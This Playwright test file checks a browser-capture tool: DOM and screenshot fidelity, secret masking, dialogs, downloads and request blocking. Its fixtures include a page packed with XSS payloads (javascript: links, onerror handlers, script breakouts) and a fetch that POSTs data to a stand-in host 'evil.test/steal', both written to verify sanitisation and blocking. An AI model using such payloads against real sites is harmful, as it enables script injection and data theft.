import { expect, test } from '@playwright/test';
import { readDocument } from '../visual/read-document.ts';
import { TreeBuilder, type TreeNode } from '../visual/tree.ts';
import type { Pages, Site } from './testing/open-site.ts';
import { LONG_POLL, SECRET, withSite } from './testing/open-site.ts';

const KEY = 'sk_live_51HqLyjWDarjtT1zdp7dc';

const FORM = `<title>Form</title>
  <style>p { color: rgb(1, 2, 3) }</style><link rel="stylesheet" href="/a.css">
  <input id="text" value="old"><input type="password" value="hunter2hunter2"><textarea>old</textarea>
  <input type="checkbox" id="on"><input type="checkbox" id="off" checked>
  <select><option>first<option>second</select>
  <div id="open"></div><div id="closed"></div>
  <iframe srcdoc="<p>inner words</p>"></iframe>
  <script>
    text.value = 'typed'; document.querySelector('textarea').value = 'written <b>';
    on.checked = true; off.checked = false; document.querySelector('select').selectedIndex = 1;
    document.querySelector('[type=password]').value = 'correct horse battery';
    document.querySelector('#open').attachShadow({ mode: 'open' }).innerHTML = '<p>open words</p>';
    document.querySelector('#closed').attachShadow({ mode: 'closed' }).innerHTML = '<p>closed words</p>';
  </script>`;

const STYLED: Pages = {
  '/': FORM,
  '/a.css': (_, response) =>
    void response.writeHead(200, { 'content-type': 'text/css' }).end('b { color: rgb(4, 5, 6) }'),
};

test('a document shows what was typed, checked and chosen, shadow roots, frames and style sheets', async () => {
  await withSite(STYLED, async ({ open }) => {
    const { dom, title } = await open('/');
    expect(title).toBe('Form');
    for (const part of [
      'value="typed"',
      'written &#60;b&#62;</textarea>',
      'id="on" value="on" checked=""',
      'id="off" value="on">',
      '<option selected="">second',
      '<template shadowrootmode="open"><p>open words</p></template>',
      '<template shadowrootmode="closed"><p>closed words</p></template>',
      'inner words',
      'rgb(1, 2, 3)',
      '<style>b { color: rgb(4, 5, 6) }</style>',
    ]) {
      expect(dom).toContain(part);
    }
    expect(dom).not.toContain('<option selected="">first');
  });
});

test('boxes stand in the order of the document’s elements, whatever is between them', async () => {
  const page = `<body style="margin: 0; height: 3000px"><script>1</script><link rel="stylesheet" href="/a.css">
    <p id="first" style="margin: 0; width: 100px; height: 20px">x</p><div id="host"></div><template><b>not shown</b></template>
    <iframe srcdoc="<p>inner</p>"></iframe><svg width="5" height="5"><g></g></svg><noscript><i></i></noscript>
    <p id="last" style="position: absolute; left: 7px; top: 900px; margin: 0; width: 30px; height: 40px">y</p>
    <p id="hidden" hidden>z</p>
    <script>host.attachShadow({ mode: 'closed' }).innerHTML = '<style>i { color: red }</style><i>shadow</i>'; scrollTo(0, 500);</script>`;
  const css: Pages['/'] = (_, response) => void response.end('b { color: red }');
  await withSite({ '/': page, '/a.css': css }, async ({ open }) => {
    const { dom, boxes, scroll } = await open('/');
    expect(scroll).toEqual([0, 500]);
    const root = readDocument(dom, new TreeBuilder());
    const boxOf = (id: string) => {
      const found = [root, ...descendants(root)].find(({ attributes }) => attributes.get('id') === id);
      return found?.position == null ? undefined : boxes[found.position];
    };
    expect([boxOf('first'), boxOf('last'), boxOf('hidden')]).toEqual([
      [0, 0, 100, 20],
      [7, 900, 30, 40],
      null,
    ]);
  });
});

function descendants({ children }: TreeNode): readonly TreeNode[] {
  return children.flatMap((child) => [child, ...descendants(child)]);
}

test('a password is in neither the document nor the accessibility tree', async () => {
  await withSite(STYLED, async ({ open }) => {
    const { dom, accessibility } = await open('/');
    expect(`${dom}${accessibility}`).not.toMatch(/hunter2|battery/);
  });
});

test('a hostile document, opened again, runs nothing and asks for nothing', async () => {
  const hostile = `<base href="http://evil.test/"><meta http-equiv="refresh" content="30; url=/away">
    <script>window.ran = 'script'</script><img src="x:" onerror="parent.ran = 1"><svg onload="ran = 2"></svg>
    <a href="javascript:ran=3">a</a><a href=" jav&#x09;ascript:ran=4">b</a><form action="javascript:ran=5"><button formaction="javascript:ran=6">c</button></form>
    <iframe srcdoc="<script>parent.ran = 7</script>&lt;inner&gt;"></iframe><object data="/o"></object><embed src="/e">
    <textarea></textarea><style></style><title></title><noscript><p title="</noscript><script>ran = 8</script>"></noscript>
    <script>
      document.querySelector('textarea').value = '</textarea><script>ran = 9<' + '/script>';
      document.querySelector('style').textContent = '</style><script>ran = 10<' + '/script>';
      document.body.setAttribute('data-x', '"><script>ran = 11<' + '/script>');
      document.body.append('<script>ran = 12<' + '/script>', document.createComment('--><script>ran = 13<' + '/script>'));
    </script>`;
  let stored = '';
  const pages: Pages = {
    '/': hostile,
    // The page that shows it must not be stopped by its own policy: nothing but the document itself is to be harmless.
    '/again': (_, response) => void response.writeHead(200, { 'content-type': 'text/html' }).end(stored),
  };
  await withSite(pages, async ({ open, served, stopped }) => {
    stored = (await open('/')).dom;
    expect(stored).not.toMatch(/<script|<base|<object|<embed|http-equiv|\son\w+=|href="\s*jav/i);
    const before = [served.length, stopped.length];
    const again = await open('/again');
    expect(again.url).toBe('http://site.test/again');
    expect(again.dom).not.toContain('ran="');
    expect(served.slice(before[0]).filter((line) => !/again|favicon/.test(line))).toEqual([]);
    expect(stopped.slice(before[1])).toEqual([]);
  });
});

const DOT = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAADCAYAAAC56t6BAAAAFElEQVR4AWP8z8DwnwEIGGEMJhgDAEWTBAP1RoJxAAAAAElFTkSuQmCC',
  'base64',
);
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" width="5" height="7"><text>${KEY}</text><script>parent.ran = 1</script></svg>`;

test('a document holds the images it shows, wherever they came from, and shows them with nobody to ask', async () => {
  const serve =
    (type: string, body: string | Buffer): Pages['/'] =>
    (_, response) =>
      void response.writeHead(200, { 'content-type': type }).end(body);
  let stored = '';
  const page = `<picture><source srcset="/wide.png"><img id="chosen" src="/dot.png"></picture>
    <img id="drawing" src="/drawing.svg"><svg><image id="within" href="/dot.png"></image></svg>
    <input id="button" type="image" src="/dot.png"><img id="given" src="data:image/png;base64,${DOT.toString('base64')}">
    <iframe srcdoc="<img src='/dot.png'>"></iframe><img id="none" src="/words.png"><img id="lost" src="/lost.png">`;
  const pages: Pages = {
    '/': page,
    '/dot.png': serve('image/png', DOT),
    '/wide.png': serve('image/png', DOT),
    '/drawing.svg': serve('image/svg+xml', DRAWING),
    '/words.png': serve('image/png', `only words ${KEY}`),
    '/again': (_, response) => void response.writeHead(200, { 'content-type': 'text/html' }).end(stored),
  };
  await withSite(pages, async ({ open, served }) => {
    stored = (await open('/')).dom;
    const dot = `data:image/png;base64,${DOT.toString('base64')}`;
    for (const part of [
      `id="chosen" src="${dot}"`,
      `id="within" href="${dot}"`,
      `src="${dot}">`,
      `id="given" src="${dot}"`,
      '<img id="none" src="/words.png">',
      '<img id="lost" src="/lost.png">',
    ]) {
      expect(stored).toContain(part);
    }
    expect(stored).not.toContain('wide.png');
    expect(stored.replaceAll('&#60;', '<').split('<img src=').length).toBe(2);
    const drawn = /id="drawing" src="data:image\/svg\+xml;base64,([^"]+)"/.exec(stored)?.[1] ?? '';
    expect(Buffer.from(drawn, 'base64').toString()).toContain('<text>[redacted]</text>');
    const before = served.length;
    const again = await open('/again');
    expect(again.dom).toContain(`id="chosen" src="${dot}"`);
    expect(again.dom).not.toContain('ran="');
    expect(served.slice(before).filter((line) => !/again|favicon|lost|words/.test(line))).toEqual([]);
  });
});

test('a page that shows one image many times can’t make its document large', async () => {
  const heavy = Buffer.concat([DOT, Buffer.alloc(60_000)]);
  const pages: Pages = {
    '/': '<img src="/heavy.png">'.repeat(300),
    '/heavy.png': (_, response) => void response.writeHead(200, { 'content-type': 'image/png' }).end(heavy),
  };
  await withSite(pages, async ({ open }) => {
    const { dom } = await open('/');
    expect([dom.includes('src="data:image/png;base64,'), dom.includes('src="/heavy.png"')]).toEqual([
      true,
      true,
    ]);
    expect(dom.length).toBeLessThan(5_000_000);
  });
});

test('a secret is masked in the picture, in frames and after scrolling too, and gone from all text', async () => {
  const page = `<body style="margin: 0; height: 3000px"><p style="margin: 100px 0 0 50px; width: 400px">${KEY}</p>
    <input style="position: absolute; left: 20px; top: 300px; width: 400px" value="${KEY}">
    <iframe style="position: absolute; left: 600px; top: 200px; border: 10px solid; padding: 5px" srcdoc="<body style='margin: 0'><p style='margin: 30px 0 0 40px'>${KEY}</p>"></iframe>`;
  await withSite({ '/': page }, async ({ open, session, capture }) => {
    const first = await open('/');
    expect(`${first.dom}${first.accessibility}${first.title}`).not.toMatch(SECRET);
    const covers = (masks: typeof first.masks, x: number, y: number) =>
      masks.some(
        ([left, top, width, height]) => x >= left && x <= left + width && y >= top && y <= top + height,
      );
    expect(covers(first.masks, 60, 108)).toBe(true);
    expect(covers(first.masks, 40, 310)).toBe(true);
    expect(covers(first.masks, 600 + 15 + 45, 200 + 15 + 38)).toBe(true);
    expect(covers(first.masks, 60, 150)).toBe(false);
    await session.scroll(0, 50);
    expect(covers((await capture()).masks, 60, 58)).toBe(true);
  });
});

const everything = ({ url, title, dom, accessibility, png }: Awaited<ReturnType<Site['capture']>>) => ({
  url,
  title,
  dom,
  accessibility,
  png: png.toString('base64'),
});

test('the same steps give the same documents, trees and pictures, in one browser and in another', async () => {
  const pages: Pages = {
    '/': '<a href="/form">go</a><iframe src="/inner"></iframe>',
    '/inner': '<button>inner</button>',
    '/form': '<input id="name"><iframe src="/inner"></iframe><a href="/">back</a><button>ok</button>',
  };
  const steps = async () => {
    const seen: unknown[] = [];
    await withSite(pages, async ({ open, click, session, capture }) => {
      seen.push(everything(await open('/')), everything(await click('go')));
      const field = await session.locate({ role: 'textbox', name: '' });
      if ('problem' in field) throw new Error(field.problem);
      await session.fill(field, 'typed');
      seen.push(everything(await capture()), everything(await click('ok')), everything(await click('back')));
    });
    return seen;
  };
  const once = await steps();
  expect(await steps()).toEqual(once);
});

test('a focused field gives one picture, whenever it is taken', async () => {
  await withSite({ '/': '<input autofocus value="x">' }, async ({ open, session, capture }) => {
    const first = await open('/');
    for (const ms of [170, 230, 310, 370]) {
      await session.wait(ms);
      expect((await capture()).png.equals(first.png)).toBe(true);
    }
  });
});

test('what the browser says of a field that is filled in wrongly is in the picture whole or not at all, not while it fades', async () => {
  const page = '<form><input id="name" required><button>go</button></form><p>below<p>below<p>below';
  await withSite({ '/': page }, async ({ open, click, session, capture }) => {
    await open('/');
    const told = await click('go');
    await session.wait(1000);
    expect((await capture()).png.equals(told.png)).toBe(true);
    await session.insert('Ann', false);
    const written = await capture();
    await session.wait(1000);
    expect((await capture()).png.equals(written.png)).toBe(true);
  });
});

for (const [title, change] of [
  ['its text', "document.querySelector('p').textContent = 'new'"],
  ['an attribute', "document.querySelector('p').title = 'new'"],
  ['what is typed in a field', "document.querySelector('input').value = 'new'"],
  ['a box that is checked', "document.querySelector('[type=checkbox]').checked = true"],
  ['what is chosen', "document.querySelector('select').selectedIndex = 1"],
  ['its address alone', "history.pushState(null, '', '/new')"],
  ['its title', "document.title = 'new'"],
  ['how far it is scrolled', 'scrollTo(0, 500)'],
  ['the focus', "document.querySelector('input').focus()"],
  ['a style rule', "document.styleSheets[0].insertRule('p { color: red }')"],
  ['a closed shadow root', "shadow.textContent = 'new'"],
  ['a frame', "frames[0].document.body.textContent = 'new'"],
  ['an animation that begins', "document.querySelector('p').animate([{ opacity: 0 }], 1e6)"],
] as const) {
  test(`a page that changes by itself is captured again: ${title}`, async () => {
    const page = `<style>body { height: 3000px }</style><p>old</p><input><input type="checkbox"><select><option>a<option>b</select>
      <div></div><iframe srcdoc="old"></iframe>
      <script>
        const shadow = document.querySelector('div').attachShadow({ mode: 'closed' }); shadow.textContent = 'old';
        const poll = () => fetch('${LONG_POLL}').then(() => { ${change}; document.documentElement.dataset.done === '1' });
        onload = () => setTimeout(poll, 0);
      </script>`;
    const waiting: (() => void)[] = [];
    const pages: Pages = {
      '/': page,
      [LONG_POLL]: (_, response) => void waiting.push(() => response.end()),
    };
    await withSite(pages, async ({ open, session }) => {
      const cleaner = { text: (text: string) => text };
      await open('/');
      const first = await session.capture(cleaner, null);
      expect(await session.recapture(cleaner, first)).toBe(first);
      for (const answer of waiting) answer();
      await session.settle();
      expect(await session.recapture(cleaner, first)).not.toBe(first);
    });
  });
}

test('a target half in view is brought to the middle, as one out of view is', async () => {
  const page = `<body style="margin: 0; height: 3000px"><div style="height: 1000px"></div><button style="height: 40px">Save</button>`;
  await withSite({ '/': page }, async ({ open, session, capture }) => {
    await open('/');
    const tops: number[] = [];
    for (const by of [1_020, -1_020, 1_020]) {
      await session.scroll(0, by);
      await capture();
      const found = await session.locate({ role: 'button', name: 'Save' });
      if ('problem' in found) throw new Error(found.problem);
      tops.push((await capture()).scroll[1]);
      await session.scroll(0, -3_000);
    }
    expect(tops).toEqual([tops[0], tops[0], tops[0]]);
    expect(tops[0]).toBeLessThan(1_000 - 200);
  });
});

test('a new window is worked in, and the old one again once it is closed', async () => {
  const pages: Pages = {
    '/': '<a href="/new" target="_blank">go</a>',
    '/new': '<p>in the new window</p><button onclick="close()">shut</button>',
  };
  await withSite(pages, async ({ open, click, session, incidents }) => {
    await open('/');
    expect((await click('go')).dom).toContain('in the new window');
    expect(session.pagesOpened).toBe(2);
    expect(incidents.map((one) => one.split(':')[0])).toEqual(['popup']);
  });
});

const ask = "<button onclick=\"if (confirm('Delete all?')) document.title = 'deleted'\">go</button>";

for (const accept of [true, false]) {
  test(`a dialog is told of and waits; ${accept ? 'accepted, it is done' : 'dismissed, what it asked did not happen'}`, async () => {
    await withSite({ '/': ask }, async ({ open, session, incidents, capture }) => {
      await open('/');
      const found = await session.locate({ text: 'go' });
      if ('problem' in found) throw new Error(found.problem);
      await session.point(found);
      await session.click(found, {}, async () => true);
      expect(session.dialog).toEqual({ kind: 'confirm', message: 'Delete all?', proposed: '' });
      expect(incidents).toEqual(['dialog: confirm: Delete all?']);
      await session.answerDialog(accept);
      expect([session.dialog, (await capture()).title]).toEqual([null, accept ? 'deleted' : '']);
    });
  });
}

test('the way back to what a form led to is a failure that is told, and ends nothing', async () => {
  const pages: Pages = {
    '/': '<form method="post" action="/made"><button>go</button></form>',
    '/made': (_, response) => {
      const headers = { 'content-type': 'text/html', 'cache-control': 'no-store' };
      response.writeHead(200, headers).end('<a href="/on">on</a>');
    },
    '/on': '<p>further</p>',
  };
  await withSite(pages, async ({ open, click, session, capture }) => {
    await open('/');
    await click('go');
    await click('on');
    expect(await session.back()).toContain('ERR_CACHE_MISS');
    expect(await session.goto('http://site.test/on')).toBeUndefined();
    expect((await capture()).dom).toContain('further');
  });
});

test('a download is refused and told of', async () => {
  const pages: Pages = {
    '/': '<a href="/export.csv">go</a>',
    '/export.csv': (_, response) =>
      void response.writeHead(200, { 'content-disposition': 'attachment; filename="all.csv"' }).end('a,b'),
  };
  await withSite(pages, async ({ open, click, incidents }) => {
    await open('/');
    expect((await click('go')).url).toBe('http://site.test/');
    expect(incidents).toEqual(['download: all.csv']);
  });
});

test('a crash ends the session', async () => {
  await withSite({ '/': '<p>fine' }, async ({ open, session, capture }) => {
    await open('/');
    await expect(session.goto('chrome://crash')).rejects.toThrow('the page crashed');
    await expect(capture()).rejects.toThrow('the page crashed');
  });
});

test('a request to an address that is not listed is stopped, with its method and body', async () => {
  const leak =
    "fetch('http://evil.test/steal', { method: 'POST', body: 'all', mode: 'no-cors' }).catch(() => 0)";
  const pages: Pages = {
    '/': `<button onclick="${leak}">go</button><iframe src="http://evil.test/in"></iframe>`,
  };
  await withSite(pages, async ({ open, click, stopped, served }) => {
    await open('/');
    await click('go');
    expect(
      stopped.map(({ method, url, body }) => [method, url, body && Buffer.from(body).toString()]),
    ).toEqual([
      ['GET', 'http://evil.test/in', null],
      ['POST', 'http://evil.test/steal', 'all'],
    ]);
    expect(served.filter((line) => line.includes('evil'))).toEqual([]);
  });
});
